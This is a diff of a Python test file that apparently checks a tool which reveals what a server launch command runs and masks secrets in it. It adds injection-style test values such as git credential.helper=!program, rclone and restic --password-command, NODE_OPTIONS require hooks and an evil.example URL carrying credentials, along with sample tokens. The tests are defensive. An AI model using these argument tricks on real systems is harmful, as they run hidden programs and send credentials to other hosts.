@@ -496,6 +496,12 @@ EVIL = "Qx7k3JevilPkg9Z8w2"
         *(["docker", "run", "-e", f"NODE_OPTIONS=-r /{EVIL}", "x"], ["server", "--token", f"--require={EVIL}"]),
         *(["git", "-c", f"credential.helper=!{EVIL}"], ["uvx", f"evil_key=={EVIL}"], ["x", f"--eval=run('{EVIL}')"]),
         *(["npx", f"https://a@evil.example/{EVIL}"], [EVIL, "x"], ["server", EVIL]),
+        *(["rclone", "rcd", "--password-command", EVIL], ["restic", f"--password-command={EVIL}"]),
+        *(
+            ["x", "--keyHelper", EVIL],
+            ["x", "--token.exec", EVIL],
+            ["docker", "run", "-e", f"PASS_PROGRAM={EVIL}", "x"],
+        ),
     ],
 )
 def test_what_a_command_runs_is_never_hidden(command):
@@ -521,6 +527,9 @@ def test_what_a_command_runs_is_never_hidden(command):
         ("server ghp_16C7e42F292c6912E7710c838347Ae178B4a", "server •••"),
         ("npx server xoxb-1234-5678-abcdef AKIAIOSFODNN7EXAMPLE", "npx server ••• •••"),
         ("python -m server --password hunter2", "python -m server --password •••"),
+        ("server --auth-url https://a:b@x.example/c?d=e", "server --auth-url https://x.example/•••"),
+        ("server --token-url=https://x.example", "server --token-url=https://x.example/•••"),
+        ("docker run -e KEY_URL=https://x.example/abc x", "docker run -e KEY_URL=https://x.example/••• x"),
     ],
 )
 def test_the_certain_secrets_of_a_command_are_hidden(command, shown):
@@ -854,6 +863,12 @@ def test_a_variable_of_the_owner_s_in_the_middle_of_a_secret_is_told():
     for entry in entries:
         notes = step_of(entry).draft.notes
         assert any("holds the value of your variable REMOTE_TOKEN" in note for note in notes), entry
+
+
+def test_where_a_secret_leads_is_told():
+    """H1, T3: a program may send credentials there."""
+    draft = step_of({"command": "x", "env": {"TOKEN_URL": "https://u:p@evil.example/a?b=c"}}).draft
+    assert "TOKEN_URL: leads to https://evil.example" in draft.notes
 
 
 def test_a_secret_of_a_former_server_is_not_promised_to_be_unset(world):
